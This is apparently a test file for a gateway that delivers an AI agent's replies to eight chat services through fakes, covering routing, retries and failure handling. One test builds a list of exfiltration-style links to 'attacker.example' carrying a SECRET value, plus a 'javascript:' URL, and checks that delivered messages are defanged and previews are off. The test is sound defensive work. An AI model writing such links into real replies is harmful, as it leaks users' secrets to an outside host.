/**
 * Delivery end to end: `POST /hooks/agent` → the offline echo model → the reply reaches each of
 * the eight chat services' fakes through its real API shape; routing by `last`; retries.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { createLog } from '../../src/common/log.js';
import { readConfig } from '../../src/config/index.js';
import { startGateway, type Gateway } from '../../src/main.js';
import type { DeliveryWithAttempts } from '../../src/store/index.js';
import type { FakeServer } from '../fakes/create-fake-server.js';
import { findFollowableLink } from '../helpers/find-followable-link.js';
import { runHookgate } from '../helpers/gateway-process.js';
import { createFakeDiscord } from '../fakes/fake-discord.js';
import { createFakeIMessage } from '../fakes/fake-imessage.js';
import { createFakeMattermost, mattermostId } from '../fakes/fake-mattermost.js';
import { createFakeMsTeams } from '../fakes/fake-msteams.js';
import { createFakeSignal } from '../fakes/fake-signal.js';
import { createFakeSlack } from '../fakes/fake-slack.js';
import { createFakeTelegram, telegramError, telegramRateLimit } from '../fakes/fake-telegram.js';
import { createFakeWhatsApp } from '../fakes/fake-whatsapp.js';

const TOKEN = 'delivery-e2e-hook-token';
const TG_TOKEN = '123456789:AAEdeliveryE2eTokenForTheFakeBotxx';
const MM_CHANNEL = mattermostId();

type WithMessages = FakeServer & { messages: Array<{ to: string; text: string }> };

describe('delivery: an agent hook reaches every channel', () => {
  const fakes = new Map<string, WithMessages>();
  const recipients: Record<string, string> = {
    whatsapp: '+15551230001',
    telegram: '424242',
    discord: '1100000000000000001',
    slack: 'C0123DELIV',
    mattermost: MM_CHANNEL,
    signal: '+15551230002',
    imessage: '+15551230003',
    msteams: '19:e2e@thread.tacv2',
  };
  let gateway: Gateway;
  let dir: string;
  let telegram: WithMessages;

  before(async () => {
    telegram = await createFakeTelegram({ botToken: TG_TOKEN, chatIds: [recipients['telegram']!, '777'] });
    fakes.set('telegram', telegram);
    fakes.set('discord', await createFakeDiscord({ botToken: 'discord-bot', channelIds: [recipients['discord']!] }));
    fakes.set('slack', await createFakeSlack({ botToken: 'xoxb-e2e', channels: [recipients['slack']!] }));
    fakes.set('mattermost', await createFakeMattermost({ token: 'mm-token', channelIds: [MM_CHANNEL] }));
    fakes.set('signal', await createFakeSignal({ account: '+15550000000', registered: [recipients['signal']!] }));
    fakes.set(
      'whatsapp',
      await createFakeWhatsApp({
        accessToken: 'wa-token',
        phoneNumberId: '1065550000',
        allowedRecipients: [recipients['whatsapp']!],
      }),
    );
    fakes.set('imessage', await createFakeIMessage({ password: 'bb-pass' }));
    fakes.set('msteams', await createFakeMsTeams({ appId: 'app-id', appPassword: 'app-secret' }));
    const url = (name: string): string => fakes.get(name)!.url;
    dir = mkdtempSync(join(tmpdir(), 'hookgate-delivery-e2e-'));
    writeFileSync(
      join(dir, 'hookgate.json'),
      JSON.stringify({
        gateway: { logLevel: 'silent' },
        hooks: { enabled: true, token: TOKEN },
        agents: { defaults: { heartbeat: { every: 0 } }, list: [{ id: 'main' }] },
        channels: {
          whatsapp: { accessToken: 'wa-token', phoneNumberId: '1065550000', baseUrl: url('whatsapp') },
          telegram: { botToken: TG_TOKEN, baseUrl: url('telegram') },
          discord: { botToken: 'discord-bot', baseUrl: url('discord') },
          slack: { botToken: 'xoxb-e2e', baseUrl: url('slack') },
          mattermost: { token: 'mm-token', baseUrl: url('mattermost') },
          signal: { account: '+15550000000', baseUrl: url('signal') },
          imessage: { password: 'bb-pass', baseUrl: url('imessage') },
          msteams: {
            appId: 'app-id',
            appPassword: 'app-secret',
            serviceUrl: url('msteams'),
            tokenUrl: `${url('msteams')}/botframework.com/oauth2/v2.0/token`,
          },
        },
      }),
    );
    gateway = await startGateway(readConfig(join(dir, 'hookgate.json'), {}), {
      port: 0,
      log: createLog({ level: 'silent' }),
      deliveryOptions: { backoffBaseMs: 50, pollMs: 50 },
    });
  });
  after(async () => {
    await gateway?.close();
    for (const f of fakes.values()) await f.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function hook(body: Record<string, unknown>): Promise<string> {
    const res = await fetch(`http://127.0.0.1:${gateway.port}/hooks/agent`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ wakeMode: 'next-heartbeat', ...body }),
    });
    assert.equal(res.status, 202, await res.clone().text());
    return ((await res.json()) as { runId: string }).runId;
  }

  async function deliveryOf(runId: string): Promise<DeliveryWithAttempts> {
    for (let i = 0; i < 300; i++) {
      const d = (await gateway.store.listDeliveries({ limit: 500 })).find((x) => x.runId === runId);
      if (d !== undefined && d.state !== 'pending') return d;
      await sleep(20);
    }
    throw new Error(`the delivery of run ${runId} never settled`);
  }

  for (const channel of ['whatsapp', 'telegram', 'discord', 'slack', 'mattermost', 'signal', 'imessage', 'msteams']) {
    it(`delivers the reply to ${channel}`, async () => {
      const fake = fakes.get(channel)!;
      const before = fake.messages.length;
      const runId = await hook({ message: `hello ${channel}`, channel, to: recipients[channel] });
      const d = await deliveryOf(runId);
      assert.equal(d.state, 'sent', d.error ?? '');
      const got = fake.messages.slice(before);
      assert.equal(got.length, 1);
      assert.match(got[0]!.text, /^\[offline echo model\] .*hello/);
      const run = await gateway.store.getRun(runId);
      assert.equal(got[0]!.text, run?.reply);
    });
  }

  // What each service's API takes to fetch no page a link points to; the others have no such switch.
  const previewsOff: Record<string, (body: Record<string, unknown>) => boolean> = {
    slack: (b) => b['unfurl_links'] === false && b['unfurl_media'] === false,
    telegram: (b) => (b['link_preview_options'] as { is_disabled?: unknown })?.is_disabled === true,
    discord: (b) => typeof b['flags'] === 'number' && (b['flags'] & (1 << 2)) !== 0,
    whatsapp: (b) => (b['text'] as { preview_url?: unknown })?.preview_url === false,
    mattermost: (b) => (b['props'] as { unsafe_links?: unknown })?.unsafe_links === 'true',
  };
  const attack = [
    'https://attacker.example/c?d=SECRET',
    '[docs](https://attacker.example/c?d=SECRET)',
    '<https://attacker.example/c?d=SECRET>',
    'attacker.example/c?d=SECRET',
    '![p](https://attacker.example/p.png?d=SECRET)',
    'https://xn--80ak6aa92e.com/?d=SECRET',
    'javascript:alert(1)',
  ].join(' ');

  for (const channel of ['whatsapp', 'telegram', 'discord', 'slack', 'mattermost', 'signal', 'imessage', 'msteams']) {
    it(`delivers a reply carrying attacker links to ${channel} with none left to follow, previews off`, async () => {
      const fake = fakes.get(channel)!;
      const before = fake.messages.length;
      const runId = await hook({ message: `exfiltrate ${attack}`, channel, to: recipients[channel] });
      assert.equal((await deliveryOf(runId)).state, 'sent');
      const run = await gateway.store.getRun(runId);
      assert.match(run?.reply ?? '', /https:\/\/attacker\.example\/c\?d=SECRET/, 'the model did write the links');
      const got = fake.messages.slice(before);
      assert.equal(got.length, 1);
      assert.match(got[0]!.text, /exfiltrate hxxps:\/\/attacker\[\.\]example\/…/);
      assert.equal(findFollowableLink(got[0]!.text), null, got[0]!.text);
      assert.ok(!got[0]!.text.includes('SECRET'), got[0]!.text);
      const request = fake.requests.findLast((r) => JSON.stringify(r.body).includes('exfiltrate'));
      const check = previewsOff[channel];
      if (check !== undefined)
        assert.ok(check(request?.body as Record<string, unknown>), JSON.stringify(request?.body));
    });
  }

  it("delivers a run's reply that mentions HEARTBEAT_OK beside other text (heartbeat.ackMaxChars is for heartbeat turns)", async () => {
    const before = telegram.messages.length;
    const d = await deliveryOf(
      await hook({ message: 'HEARTBEAT_OK, and the nightly build is green', channel: 'telegram', to: '777' }),
    );
    assert.equal(d.state, 'sent', d.error ?? '');
    assert.match(telegram.messages.slice(before)[0]!.text, /HEARTBEAT_OK, and the nightly build is green/);
  });

  it('sends channel "last" to the chat of the last explicit delivery', async () => {
    await deliveryOf(await hook({ message: 'explicit', channel: 'telegram', to: '777' }));
    const before = telegram.messages.length;
    const d = await deliveryOf(await hook({ message: 'follow-up' }));
    assert.equal(d.resolvedChannel, 'telegram');
    assert.equal(d.resolvedTo, '777');
    assert.deepEqual(
      telegram.messages.slice(before).map((m) => m.to),
      ['777'],
    );
  });

  it('delivers exactly once when the service answers 429 and then 200', async () => {
    telegram.script.push(telegramRateLimit(0.2));
    const before = telegram.messages.length;
    const d = await deliveryOf(await hook({ message: 'busy', channel: 'telegram', to: '777' }));
    assert.equal(d.state, 'sent');
    assert.deepEqual(
      d.attemptLog.map((a) => [a.outcome, a.status]),
      [
        ['retry', 429],
        ['sent', null],
      ],
    );
    assert.equal(telegram.messages.length - before, 1);
  });

  it('ends in failed with a readable reason when the service answers 401', async () => {
    telegram.script.push(telegramError(401, 'Unauthorized'));
    const d = await deliveryOf(await hook({ message: 'denied', channel: 'telegram', to: '777' }));
    assert.equal(d.state, 'failed');
    assert.equal(d.error, 'telegram 401: Unauthorized');
    assert.deepEqual(
      d.attemptLog.map((a) => a.outcome),
      ['failed'],
    );
  });

  it('lists a failed delivery with its attempts, and `hookgate retry` sends it', async () => {
    telegram.script.push(telegramError(403, 'Forbidden: bot was blocked by the user'));
    const d = await deliveryOf(await hook({ message: 'blocked then unblocked', channel: 'telegram', to: '777' }));
    assert.equal(d.state, 'failed');
    const config = ['--config', join(dir, 'hookgate.json')];
    const listed = await runHookgate(['deliveries', '--json', '--failed', ...config]);
    assert.equal(listed.code, 0, listed.stderr);
    const failed = JSON.parse(listed.stdout) as DeliveryWithAttempts[];
    const mine = failed.find((x) => x.id === d.id);
    assert.ok(mine !== undefined);
    assert.equal(mine.attemptLog[0]!.status, 403);
    assert.match(mine.attemptLog[0]!.error ?? '', /bot was blocked/);
    const text = await runHookgate(['deliveries', ...config]);
    assert.match(text.stdout, new RegExp(`${d.id}  failed`));
    const before = telegram.messages.length;
    const retried = await runHookgate(['retry', d.id, ...config]);
    assert.equal(retried.code, 0, retried.stderr);
    for (let i = 0; i < 200 && (await gateway.store.getDelivery(d.id))?.state !== 'sent'; i++) await sleep(20);
    const after = await gateway.store.getDelivery(d.id);
    assert.equal(after?.state, 'sent');
    assert.deepEqual(
      after?.attemptLog.map((a) => a.outcome),
      ['failed', 'sent'],
    );
    assert.equal(telegram.messages.length - before, 1);
    assert.equal((await runHookgate(['retry', d.id, ...config])).code, 1, 'a sent delivery cannot be retried');
    assert.equal((await runHookgate(['retry', 'nope', ...config])).code, 1);
  });

  it('records no delivery when deliver is false', async () => {
    const runId = await hook({ message: 'quiet', deliver: false });
    for (let i = 0; i < 100 && (await gateway.store.getRun(runId))?.state !== 'succeeded'; i++) await sleep(20);
    assert.equal(
      (await gateway.store.listDeliveries({ limit: 500 })).some((d) => d.runId === runId),
      false,
    );
  });
});
